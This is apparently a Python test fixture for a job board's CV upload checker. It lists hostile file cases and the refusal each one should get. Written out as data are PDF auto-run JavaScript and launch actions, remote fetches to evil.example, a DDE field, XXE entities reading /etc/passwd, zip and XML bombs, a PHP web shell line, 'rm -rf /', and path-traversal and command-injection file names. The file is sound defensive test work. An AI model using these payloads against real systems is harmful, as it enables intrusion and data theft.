"""The table of hostile files: by kind, (what it is, how it is made, its name, what becomes of it).

A `Refusal`, or the flags of one that is taken; None where only that nothing breaks is asked.
"""

import io
import random
import struct
import zipfile
import zlib

from PIL import Image

from jobboard.files.answers import LARGEST_FILE
from jobboard.files.checks import Refusal
from tests.files.documents import (
    W,
    chunk,
    cv,
    docx,
    flagged_as_encrypted,
    object_stream,
    odt,
    packed,
    pdf,
    pdf_with,
    picture,
    png_of,
    relation,
    stream,
    words,
)

BROKEN, OTHER, ENCRYPTED, BOMB = Refusal.broken, Refusal.not_what_it_says, Refusal.encrypted, Refusal.bomb
NOTHING: set[str] = set()
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
GIF_JS = b"GIF89a/*\x01\x00\x01\x00*/=1;alert(1)//" + b"\0" * 40
JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
LAUNCH = b"<< /S /Launch /F (calc.exe) >>"

#: What costs the square of its length when each beginning is followed to its end: hours, where a file has five seconds.
SQUARES = [
    ("30,000 references to one thing", b"/OpenAction 9 9 R " * 30_000, {"unreadable"}),
    ("30,000 references to many things", b"".join(b"/OpenAction %d 0 R " % n for n in range(30_000)), {"unreadable"}),
    ("remarks without an end", b"/S%" * 500_000, NOTHING),
    ("remarks behind remarks", b"%/S\n" * 500_000, NOTHING),
    ("dictionaries without an end", b"/OpenAction<<" * 300_000, {"unreadable"}),
    ("packed objects without an end", b"/Type/ObjStm>>stream\nx\x9c" * 200_000, {"unreadable"}),
    ("packed objects behind remarks", b"/Type/ObjStm>>%" * 200_000, {"unreadable"}),
]
ENDINGS = (
    *("exe", "com", "html", "htm", "xhtml", "svg", "xml", "js", "hta"),
    *("lnk", "doc", "docm", "rtf", "zip", "rar", "iso", "swf", "php"),
)
HEADS = {
    "a PDF": (pdf, "pdf"),
    "a Word document": (docx, "docx"),
    "a PNG": (picture, "png"),
    "a JPEG": (lambda: picture("JPEG"), "jpg"),
    "a Windows program": (lambda: b"MZ\x90\x00" * 40, ""),
    "a Linux program": (lambda: b"\x7fELF" + b"\x02" * 64, ""),
    "a GIF": (lambda: picture("GIF"), ""),
    "RTF": (lambda: rb"{\rtf1\ansi Hello}", ""),
    "an old Word document": (lambda: OLE, ""),
}


def endings():
    for ending in ENDINGS:
        yield f".{ending}", lambda: HTML, f"cv.{ending}", Refusal.ending
    yield "two endings", pdf, "cv.pdf.exe", Refusal.ending
    yield "only an ending", pdf, "pdf", Refusal.ending
    yield "an ending behind a space", pdf, " .pdf", Refusal.ending
    yield "a dot at the end", pdf, "cv.pdf.", NOTHING  # the dot goes, as it does on Windows
    yield "a stream's name", pdf, "cv.pdf::$DATA", Refusal.ending


def disguises():
    for what, (make, own) in HEADS.items():
        for ending in ("pdf", "docx", "txt", "png", "jpg"):
            if ending != own:
                yield f"{what} named .{ending}", make, f"cv.{ending}", OTHER
    yield "a Word document named .odt", docx, "cv.odt", OTHER
    yield "an OpenDocument named .docx", odt, "cv.docx", OTHER
    yield "any archive named .docx", lambda: packed({"a.txt": "a"}), "cv.docx", OTHER
    yield "a spreadsheet named .docx", lambda: packed({"xl/workbook.xml": "<a/>"}), "cv.docx", OTHER
    yield "HTML named .pdf", lambda: HTML, "cv.pdf", OTHER


def polyglots():
    jar = packed({"META-INF/MANIFEST.MF": "Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"})
    yield "a PDF that is a zip", lambda: pdf() + packed({"a.html": HTML}), "cv.pdf", OTHER
    yield "a PDF that is a Java program", lambda: pdf() + jar, "cv.pdf", OTHER
    yield "a PDF with a web page in front", lambda: pdf_in_front(HTML), "cv.pdf", OTHER
    yield "a PDF with PHP in front", lambda: pdf_in_front(b"<?php system($_GET[1]); ?>"), "cv.pdf", OTHER
    yield "a PDF with a picture in front", lambda: pdf_in_front(b"<svg onload=alert(1)>"), "cv.pdf", OTHER
    yield "a PDF with a program behind", lambda: pdf() + b"MZ\x90\x00" * 400, "cv.pdf", OTHER
    yield "a GIF that is a script", lambda: GIF_JS, "cv.txt", OTHER
    yield "a GIF that is a script as PNG", lambda: GIF_JS, "cv.png", OTHER
    yield "a PNG that is a zip", lambda: picture() + packed({"a": "a"}), "cv.png", OTHER
    yield "a JPEG that is a zip", lambda: picture("JPEG") + packed({"a": "a"}), "cv.jpg", OTHER
    yield "a JPEG that is a PDF", lambda: picture("JPEG", comment=b"%PDF-1.4\n") + pdf(), "cv.jpg", OTHER
    yield "a JPEG that is a web page", lambda: picture("JPEG", comment=HTML), "cv.jpg", OTHER
    yield "a text that is a PDF", lambda: b"Hello\n" + pdf(), "cv.txt", OTHER
    yield "a text that is a zip", lambda: b"Hello\n" + docx(), "cv.txt", OTHER
    yield (
        "a Word document that is a PDF",
        lambda: packed({"a": b"%PDF-1.4\n", **unpacked(docx())}, zipfile.ZIP_STORED),
        "cv.docx",
        OTHER,
    )
    yield "a Word document with a program behind", lambda: docx() + b"MZ\x90\x00" * 40, "cv.docx", OTHER
    yield "two documents, one behind the other", lambda: docx() + docx(), "cv.docx", OTHER


def not_at_the_beginning():
    for what, before in {
        "a line": b"\n",
        "a mark of UTF-8": b"\xef\xbb\xbf",
        "a space": b" ",
        "1,000 zeros": b"\0" * 1000,
        "a mail's head": b"Content-Type: application/pdf\r\n\r\n",
        "a GIF": b"GIF89a",
    }.items():
        yield f"a PDF behind {what}", lambda before=before: before + pdf(), "cv.pdf", OTHER
    yield "a Word document behind a line", lambda: b"\n" + docx(), "cv.docx", OTHER
    yield "a PNG behind a line", lambda: b"\n" + picture(), "cv.png", OTHER


def pdf_in_front(what):
    return pdf().replace(b"\n", b"\n%" + what + b"\n", 1)


def unpacked(data):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def broken_pdfs():
    whole = cv()
    yield "only a beginning", lambda: b"%PDF-1.7\n", "cv.pdf", BROKEN
    yield "a beginning and an end", lambda: b"%PDF-1.7\n%%EOF", "cv.pdf", BROKEN
    yield "half of it", lambda: whole[: len(whole) // 2], "cv.pdf", BROKEN
    yield "without its last lines", lambda: whole[:-40], "cv.pdf", BROKEN
    yield "noise between beginning and end", lambda: b"%PDF-1.7\n" + noise(5000) + b"\n%%EOF", "cv.pdf", BROKEN
    yield (
        "one that refers to itself",
        lambda: (
            b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]>>endobj\n"
            b"trailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF"
        ),
        "cv.pdf",
        BROKEN,
    )
    yield "no pages", lambda: pdf_with().replace(b"/Count 1 /Kids [3 0 R]", b"/Count 0 /Kids []     "), "cv.pdf", BROKEN
    yield (
        "pages that are their own parent",
        lambda: pdf_with().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"),
        "cv.pdf",
        None,
    )
    yield "a page that is missing", lambda: pdf_with().replace(b"/Kids [3 0 R]", b"/Kids [9 0 R]"), "cv.pdf", None
    yield "a negative number of pages", lambda: pdf_with().replace(b"/Count 1", b"/Count -1"), "cv.pdf", None
    yield "tables that lead in a circle", lambda: pdf_with().replace(b"/Size", b"/Prev 9 /Size"), "cv.pdf", None
    yield "brackets in brackets", lambda: pdf_with(b"/A " + b"[" * 20000 + b"]" * 20000), "cv.pdf", None
    yield "dictionaries in dictionaries", lambda: pdf_with(b"/A " + b"<</A " * 9000 + b">>" * 9000), "cv.pdf", None
    yield "a stream of a wrong length", lambda: pdf_with().replace(b"/Length 5", b"/Length 9"), "cv.pdf", None
    yield "a beginning of another kind", lambda: pdf().replace(b"%PDF-1.3", b"%FDF-1.3"), "cv.pdf", OTHER


def endless_pdfs():
    yield "101 pages", lambda: pdf(101), "cv.pdf", Refusal.too_many_pages
    yield "ten thousand pages, it says", lambda: pdf_with().replace(b"/Count 1 ", b"/Count 9999 "), "cv.pdf", None
    yield (
        "a page that unpacks to 100 MB",
        lambda: pdf_with().replace(*packed_content(b"0 0 m 1 1 l S " * 7_000_000)),
        "cv.pdf",
        None,
    )
    yield (
        "objects that unpack to 60 MB",
        lambda: pdf_with(b"", b"", object_stream([b"[" + b"0 " * 30_000_000 + b"]"])),
        "cv.pdf",
        BOMB,
    )
    yield from (
        (f"one of {what}", lambda noise=noise: pdf_with(b"", b"", stream(noise)), "cv.pdf", flags)
        for what, noise, flags in SQUARES
    )
    yield "a page of 200 km", lambda: pdf_with(box=b"0 0 99999999 99999999"), "cv.pdf", None
    yield "a page of no size", lambda: pdf_with(box=b"0 0 0 0"), "cv.pdf", None
    yield "a page turned inside out", lambda: pdf_with(box=b"600 800 0 0"), "cv.pdf", NOTHING
    yield "a page as thin as a hair", lambda: pdf_with(box=b"0 0 1 9000"), "cv.pdf", NOTHING
    yield "a size that is no number", lambda: pdf_with(box=b"nan inf -inf 1e999"), "cv.pdf", None
    yield "a drawing that draws itself", drawing_itself, "cv.pdf", None
    yield "a picture of 50,000 × 50,000", huge_picture, "cv.pdf", NOTHING
    yield "10,000 lines on one page", lambda: pdf_with(content=b"0 0 m 500 800 l S\n" * 10_000), "cv.pdf", NOTHING
    yield "a filter behind a filter, fifty times", many_filters, "cv.pdf", None
    yield "100,000 open brackets on a page", lambda: pdf_with(content=b"[" * 100_000), "cv.pdf", None


def packed_content(content):
    bomb = zlib.compress(content, 1)
    plain = b"<< /Length 5 >>\nstream\nBT ET\nendstream"
    return plain, b"<< /Length %d /Filter /FlateDecode >>\nstream\n%b\nendstream" % (len(bomb), bomb)


def drawing_itself():
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /A 5 0 R /B 5 0 R >> >>"
    return pdf_with(b"", b"/Resources << /XObject << /A 5 0 R >> >>", stream(b"/A Do /B Do", form), content=b"/A Do")


def huge_picture():
    about = b"/Type /XObject /Subtype /Image /Width 50000 /Height 50000 /BitsPerComponent 8 /ColorSpace /DeviceRGB"
    image = stream(zlib.compress(b"\0" * 1000), about + b" /Filter /FlateDecode")
    page = b"/Resources << /XObject << /A 5 0 R >> >>"
    return pdf_with(b"", page, image, content=b"q 500 0 0 700 0 0 cm /A Do Q")


def many_filters():
    data = b"BT ET"
    for _number in range(50):
        data = zlib.compress(data)
    return pdf_with().replace(
        b"<< /Length 5 >>\nstream\nBT ET\nendstream", stream(data, b"/Filter [" + b"/FlateDecode " * 50 + b"]")
    )


def encrypted():
    yield "a PDF with a password", lambda: pdf(password="secret"), "cv.pdf", ENCRYPTED
    yield "a PDF only its owner may change", lambda: pdf(owner="secret"), "cv.pdf", NOTHING
    yield "an archive with passwords", lambda: flagged_as_encrypted(docx()), "cv.docx", ENCRYPTED
    yield (
        "a Word document as Office encrypts it",
        lambda: OLE + "EncryptedPackage".encode("utf-16-le"),
        "cv.docx",
        ENCRYPTED,
    )
    yield (
        "an OpenDocument with a password",
        lambda: odt(**{"META-INF/manifest.xml": "<manifest:encryption-data/>"}),
        "cv.odt",
        ENCRYPTED,
    )
    yield "an encrypted package inside", lambda: docx(EncryptedPackage="x"), "cv.docx", ENCRYPTED


def active_pdfs():
    annotation = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A %b >>]"
    names = b"/Names << /%b << /Names [(a) 5 0 R] >> >>"
    attachment = b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>"
    yield "a script at opening", lambda: pdf_with(b"/OpenAction " + JS), "cv.pdf", {"script"}
    yield "a script by reference", lambda: pdf_with(b"/OpenAction 5 0 R", b"", JS), "cv.pdf", {"script"}
    yield "a named script", lambda: pdf_with(names % b"JavaScript", b"", JS), "cv.pdf", {"script"}
    yield "a script of a page", lambda: pdf_with(b"", b"/AA << /O %b >>" % JS), "cv.pdf", {"script"}
    yield "a script behind a link", lambda: pdf_with(b"", annotation % JS), "cv.pdf", {"script"}
    yield (
        "a script in disguise",
        lambda: pdf_with(b"/OpenAction " + JS.replace(b"Java", b"J#61v#61")),
        "cv.pdf",
        {"script"},
    )
    yield (
        "a script with a remark between",
        lambda: pdf_with(b"/OpenAction " + JS.replace(b"/S ", b"/S %x\n")),
        "cv.pdf",
        {"script"},
    )
    yield "a packed script", lambda: pdf_with(b"/OpenAction 20 0 R", b"", object_stream([JS])), "cv.pdf", {"script"}
    yield "a program", lambda: pdf_with(b"/OpenAction " + LAUNCH), "cv.pdf", {"launch"}
    yield "a program behind a link", lambda: pdf_with(b"", annotation % LAUNCH), "cv.pdf", {"launch"}
    yield "a packed program", lambda: pdf_with(b"", b"", object_stream([LAUNCH])), "cv.pdf", {"launch"}
    for kind in (b"SubmitForm", b"ImportData", b"GoToR", b"GoToE"):
        action = b"<< /S /%b /F (\\\\\\\\evil.example\\\\x) >>" % kind
        yield (
            f"{kind.decode()} at opening",
            lambda action=action: pdf_with(b"/OpenAction " + action),
            "cv.pdf",
            {"remote"},
        )
    address = b"<< /S /URI /URI (https://evil.example/) >>"
    yield "an address at opening", lambda: pdf_with(b"/OpenAction " + address), "cv.pdf", {"remote"}
    yield (
        "an address at opening by reference",
        lambda: pdf_with(b"/OpenAction 5 0 R", b"", address),
        "cv.pdf",
        {"remote"},
    )
    yield "an address behind a link, as in any CV", lambda: pdf_with(b"", annotation % address), "cv.pdf", NOTHING
    yield "the words of a web developer", cv, "cv.pdf", NOTHING
    yield (
        "a file inside",
        lambda: pdf_with(names % b"EmbeddedFiles", b"", attachment, stream(b"MZ", b"/Type /EmbeddedFile")),
        "cv.pdf",
        {"attachments"},
    )
    yield (
        "a file pinned to a page",
        lambda: pdf_with(b"", b"/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS 5 0 R >>]", attachment),
        "cv.pdf",
        {"attachments"},
    )
    yield (
        "a film",
        lambda: pdf_with(b"", b"/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]"),
        "cv.pdf",
        {"attachments"},
    )
    twice = pdf_with(b"/OpenAction 5 0 R", b"", b"<< /S /GoTo /D [3 0 R] >>", b"null\nendobj\n05 00 obj\n" + address)
    yield "an address that takes an object's place", lambda: twice, "cv.pdf", {"remote"}
    yield (
        "an address between remarks",
        lambda: pdf_with(b"/OpenAction%x\n5 %y\n 0 R", b"", address.replace(b"/S ", b"/S%/S /GoTo\n")),
        "cv.pdf",
        {"remote"},
    )
    yield (
        "a script behind a remark that names it",
        lambda: pdf_with(b"/A (/S %) /OpenAction " + JS.replace(b"/S ", b"/S %x\n")),
        "cv.pdf",
        {"script"},
    )
    yield (
        "a packed script with settings of its packing",
        lambda: pdf_with(b"", b"", object_stream([JS]).replace(b" /Filter", b" /DecodeParms << /Columns 5 >> /Filter")),
        "cv.pdf",
        {"script"},
    )
    unreadable = stream(b"x9", b"/Type /ObjStm /N 1 /First 2 /Filter /LZWDecode")
    yield "objects nobody can look into", lambda: pdf_with(b"", b"", unreadable), "cv.pdf", {"unreadable"}


def active_office():
    macro_types = '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    settings = "word/_rels/settings.xml.rels"
    yield "macros", lambda: docx(**{"word/vbaProject.bin": "x"}), "cv.docx", {"macros"}
    yield "a document with macros under another name", lambda: docx(types=macro_types), "cv.docx", {"macros"}
    yield "controls that run", lambda: docx(**{"word/activeX/activeX1.bin": "x"}), "cv.docx", {"macros"}
    yield "macros of the other office", lambda: odt(**{"Basic/script.xml": "x"}), "cv.odt", {"macros"}
    yield "scripts of the other office", lambda: odt(**{"Scripts/python/a.py": "x"}), "cv.odt", {"macros"}
    yield (
        "a macro that is called at opening",
        lambda: odt('<script:event-listener script:language="Basic"/>'),
        "cv.odt",
        {"macros"},
    )
    for kind in ("attachedTemplate", "oleObject", "image", "frame", "subDocument"):
        rels = relation(kind, "http://evil.example/x")
        yield f"{kind} from elsewhere", lambda rels=rels: docx(**{settings: rels}), "cv.docx", {"remote"}
    link = relation("hyperlink", "https://example.org/")
    yield "a link somebody may click", lambda: docx(**{"word/_rels/document.xml.rels": link}), "cv.docx", NOTHING
    own = relation("image", "media/a.png", "Internal")
    yield "a picture of its own", lambda: docx(**{"word/_rels/document.xml.rels": own}), "cv.docx", NOTHING
    yield (
        "a picture from elsewhere in an OpenDocument",
        lambda: odt('<draw:image xlink:href="http://evil.example/x.png"/>'),
        "cv.odt",
        {"remote"},
    )
    field = (
        f'<w:document xmlns:w="{W}"><w:p><w:r><w:instrText>DDEAUTO c:\\calc.exe</w:instrText></w:r></w:p></w:document>'
    )
    yield "a field that starts a program", lambda: docx(field), "cv.docx", {"launch"}
    for tag in ("w:instrText", "draw:image"):
        text = words(f"<![CDATA[{f'<{tag} ' * 1_000_000}]]>")
        yield (
            f"a million beginnings of {tag}",
            lambda text=text: docx(text, **{"a.bin": noise(400_000)}),
            "cv.docx",
            NOTHING,
        )
    begun = {settings: "<Relationship " * 1_000_000, "a.bin": noise(400_000)}
    yield "a million beginnings of a relation", lambda: docx(**begun), "cv.docx", NOTHING
    for name in ("word/embeddings/oleObject1.bin", "word/media/a.exe", "customXml/a.lnk", "word/a.zip"):
        yield f"{name} inside", lambda name=name: docx(**{name: "x"}), "cv.docx", {"attachments"}


def xml_attacks():
    def with_doctype(doctype, body="&x;"):
        return docx(f'<?xml version="1.0"?><!DOCTYPE a [{doctype}]>' + words(body))

    laughs = '<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    )
    yield "a billion laughs", lambda: with_doctype(laughs, "&i;"), "cv.docx", OTHER
    yield "a file of the server", lambda: with_doctype('<!ENTITY x SYSTEM "file:///etc/passwd">'), "cv.docx", OTHER
    yield "an address", lambda: with_doctype('<!ENTITY x SYSTEM "http://127.0.0.1:1/">'), "cv.docx", OTHER
    yield "parameters", lambda: with_doctype('<!ENTITY % x SYSTEM "http://127.0.0.1:1/"> %x;', "a"), "cv.docx", OTHER
    yield "elements in elements", lambda: stored(f'<w:document xmlns:w="{W}">' + "<a>" * 200_000), "cv.docx", BROKEN
    yield (
        "elements in elements, closed",
        lambda: stored(f'<w:document xmlns:w="{W}">{"<a>" * 90_000}{"</a>" * 90_000}</w:document>'),
        "cv.docx",
        NOTHING,
    )
    yield (
        "an attribute of a megabyte",
        lambda: docx(f'<w:document xmlns:w="{W}" a="{noise_words(999_999)}"/>'),
        "cv.docx",
        NOTHING,
    )
    yield (
        "ten thousand attributes",
        lambda: docx(f'<w:document xmlns:w="{W}" {" ".join(f"a{n}={chr(34)}{n}{chr(34)}" for n in range(9999))}/>'),
        "cv.docx",
        NOTHING,
    )
    yield "another element around all", lambda: docx("<html/>"), "cv.docx", OTHER
    yield "no XML", lambda: docx("Hello"), "cv.docx", BROKEN
    yield "half of the XML", lambda: docx(words("Hello")[:-5]), "cv.docx", BROKEN
    yield "an encoding nobody knows", lambda: docx('<?xml version="1.0" encoding="utf-7"?><a/>'), "cv.docx", BROKEN
    yield "UTF-16", lambda: docx(words("Größe").encode("utf-16")), "cv.docx", NOTHING
    yield (
        "a name space bomb",
        lambda: stored(f'<w:document xmlns:w="{W}">' + '<a xmlns:b="' + "c" * 99_999 + '"/></w:document>'),
        "cv.docx",
        NOTHING,
    )
    yield "20 MB of words", lambda: docx(words(f"{int.from_bytes(noise(2_600_000)):b}")), "cv.docx", BOMB


def stored(document):
    return docx(document, compression=zipfile.ZIP_STORED)


def zip_attacks():
    yield "a bomb by its ratio", lambda: docx(**{"word/media/a": b"\0" * 30_000_000}), "cv.docx", BOMB
    yield "a bomb by its entries", lambda: docx(**{f"a/{n}": "" for n in range(2001)}), "cv.docx", BOMB
    yield "entries that share their bytes", overlapping, "cv.docx", BOMB
    yield "two parts of one name", lambda: docx(**{"WORD/document.xml": words("other")}), "cv.docx", BROKEN
    yield "a size that is a lie", lambda: lying(docx()), "cv.docx", BROKEN
    yield "half an archive", lambda: docx()[:60], "cv.docx", BROKEN
    yield "an archive without its directory", lambda: b"PK\x03\x04" + b"\x00" * 500, "cv.docx", BROKEN
    yield "only a directory", lambda: b"PK\x03\x04" + docx()[-300:], "cv.docx", None
    yield "a name that leads elsewhere", lambda: docx(**{"../../../etc/cron.d/x": "x"}), "cv.docx", NOTHING
    yield "a name from the root", lambda: docx(**{"/etc/passwd": "x", "C:\\x": "x"}), "cv.docx", NOTHING
    yield "a name with NUL", lambda: docx(**{"a\0b": "x"}), "cv.docx", NOTHING
    yield "a name of 60,000 letters", lambda: docx(**{"a" * 60_000: "x"}), "cv.docx", NOTHING
    yield "packed by bzip2", lambda: docx(compression=zipfile.ZIP_BZIP2), "cv.docx", None
    yield "packed by LZMA", lambda: docx(compression=zipfile.ZIP_LZMA), "cv.docx", None
    yield "packed in a way nobody knows", lambda: docx().replace(b"\x08\x00", b"\x63\x00"), "cv.docx", BROKEN
    yield (
        "a checksum that is wrong",
        lambda: spoiled(docx(compression=zipfile.ZIP_STORED), b"Twelve"),
        "cv.docx",
        BROKEN,
    )
    yield "its directory 4 GB away", lambda: docx()[:-6] + b"\xff\xff\xff\xff\0\0", "cv.docx", OTHER


def overlapping():
    data = bytearray(docx())
    second = data.rfind(b"PK\x01\x02")
    data[second + 42 : second + 46] = struct.pack("<I", 0)
    return bytes(data)


def lying(data):
    found = bytearray(data)
    place = found.rfind(b"PK\x01\x02")
    found[place + 24 : place + 28] = struct.pack("<I", 3)
    return bytes(found)


def spoiled(data, words_inside):
    return data.replace(words_inside, words_inside[::-1])


def texts():
    yield "NUL", lambda: b"Hello\x00world", "cv.txt", Refusal.not_text
    yield "noise", lambda: bytes(range(1, 256)) * 9, "cv.txt", Refusal.not_text
    yield "UTF-16", lambda: "Hello".encode("utf-16"), "cv.txt", Refusal.not_text
    yield "UTF-32", lambda: "Hello".encode("utf-32"), "cv.txt", Refusal.not_text
    yield "a web page", lambda: HTML, "cv.txt", OTHER
    yield "a web page behind a mark and spaces", lambda: b"\xef\xbb\xbf \n <Html>", "cv.txt", OTHER
    yield "a script", lambda: b"<script>alert(1)</script>", "cv.txt", OTHER
    yield "a picture that runs", lambda: b"<svg onload=alert(1)>", "cv.txt", OTHER
    yield "PHP", lambda: b"<?php system('id');", "cv.txt", OTHER
    yield "a program of the shell", lambda: b"#!/bin/sh\nrm -rf /\n", "cv.txt", OTHER
    yield "orders for a terminal", lambda: b"\x1b[2J\x1b]0;owned\x07" * 50, "cv.txt", Refusal.not_text
    yield "words about HTML", lambda: b"I wrote <script> tags for ten years.\n", "cv.txt", NOTHING
    yield "signs that turn the line around", "a\u202eb\u2066c".encode, "cv.txt", NOTHING
    yield "invalid UTF-8", lambda: b"Gr\xf6\xdfe \x81\x8d", "cv.txt", NOTHING
    yield "one line of ten megabytes", lambda: b"a" * LARGEST_FILE, "cv.txt", NOTHING
    yield "ten megabytes of lines", lambda: b"\n" * LARGEST_FILE, "cv.txt", NOTHING
    yield "one byte more", lambda: b"a" * (LARGEST_FILE + 1), "cv.txt", Refusal.too_large
    yield "nothing", lambda: b"", "cv.txt", Refusal.empty


def pictures():
    yield "50,000 × 50,000", lambda: png_of(50_000, 50_000, b""), "cv.png", Refusal.too_many_pixels
    yield "two thousand million wide", lambda: png_of(2**31 - 1, 1, b""), "cv.png", Refusal.too_many_pixels
    yield "no width", lambda: png_of(0, 10, b""), "cv.png", None
    yield "data for 100 MB", lambda: png_of(100, 100, zlib.compress(b"\0" * 100_000_000, 1)), "cv.png", None
    yield (
        "36 million pixels with an alpha",
        lambda: png_of(6000, 6000, zlib.compress(b"\0" * 144_006_000, 1), 6),
        "cv.png",
        NOTHING,
    )
    yield (
        "words that unpack to 60 MB",
        lambda: png_of(1, 1, zlib.compress(b"\0" * 4), more=swollen(b"zTXt")),
        "cv.png",
        None,
    )
    yield (
        "a profile that unpacks to 60 MB",
        lambda: png_of(1, 1, zlib.compress(b"\0" * 4), more=swollen(b"iCCP")),
        "cv.png",
        None,
    )
    yield "half a PNG", lambda: noisy("PNG")[:2000], "cv.png", BROKEN
    yield "half a JPEG", lambda: noisy("JPEG")[:2000], "cv.jpg", BROKEN
    yield "only a PNG's head", lambda: b"\x89PNG\r\n\x1a\n", "cv.png", BROKEN
    yield "only a JPEG's head", lambda: b"\xff\xd8\xff\xe0", "cv.jpg", BROKEN
    yield "noise behind a JPEG's head", lambda: b"\xff\xd8\xff\xe0" + noise(4000), "cv.jpg", BROKEN
    yield "a wrong checksum", lambda: spoiled(png_of(9, 9, b"abcd"), b"abcd"), "cv.png", BROKEN
    for mode in ("1", "L", "LA", "P", "RGBA", "I;16"):
        yield f"a PNG of the kind {mode}", lambda mode=mode: picture(mode=mode), "cv.png", NOTHING
    yield "a JPEG for printers", lambda: picture("JPEG", mode="CMYK"), "cv.jpeg", NOTHING
    yield "a JPEG of a camera, damaged", lambda: picture("JPEG", exif=b"Exif\0\0MM\0*\xff\xff\xff\xff"), "cv.jpg", None
    yield "a film of pictures", lambda: picture(save_all=True, append_images=[]), "cv.png", NOTHING


def swollen(name):
    return chunk(name, b"a\0\0" + zlib.compress(b"a" * 60_000_000, 1))


def noisy(kind):
    target = io.BytesIO()
    Image.frombytes("RGB", (60, 60), noise(60 * 60 * 3)).save(target, kind)
    return target.getvalue()


def names():
    for name in (
        "履歴書.pdf",
        "السيرة الذاتية.pdf",
        "Lebenslauf Größe ẞ.PDF",
        "🚢" * 60 + ".pdf",
        "a" * 300 + ".pdf",
        "ä" * 5000 + ".pdf",
        "../../../etc/passwd.pdf",
        "..\\..\\boot.pdf",
        "/etc/cron.d/cv.pdf",
        "CON.pdf",
        "NUL.pdf",
        "-rf.pdf",
        "$(id).pdf",
        "a;b|c&d.pdf",
        "<img src=x onerror=alert(1)>.pdf",
        "\u202efdp.exe.pdf",
        "a\u200fb\u2066c.pdf",
        "a\"b'c.pdf",
        "a%00b%2e%2e.pdf",
    ):
        yield ascii(name)[:60], pdf, name, NOTHING


def mutants():
    """Good documents with a few bytes changed, the same ones each time."""
    chance = random.Random(5)
    for kind, whole in (("pdf", cv()), ("docx", docx()), ("odt", odt()), ("png", noisy("PNG")), ("jpg", noisy("JPEG"))):
        for number in range(5):
            data = bytearray(whole)
            for _change in range(1 + number * 3):
                data[chance.randrange(8, len(data))] = chance.randrange(256)
            yield f"{kind} {number}", lambda data=bytes(data): data, f"cv.{kind}", None


def noise(size):
    return random.Random(7).randbytes(size)


def noise_words(size):
    return noise(size // 2 + 1).hex()[:size]


KINDS = {
    "endings": endings,
    "disguises": disguises,
    "polyglots": polyglots,
    "not at the beginning": not_at_the_beginning,
    "broken PDFs": broken_pdfs,
    "endless PDFs": endless_pdfs,
    "encrypted": encrypted,
    "active PDFs": active_pdfs,
    "active office documents": active_office,
    "XML attacks": xml_attacks,
    "zip attacks": zip_attacks,
    "texts": texts,
    "pictures": pictures,
    "names": names,
    "mutants": mutants,
}
CASES = {f"{kind}: {what}": (make, name, outcome) for kind, of in KINDS.items() for what, make, name, outcome in of()}
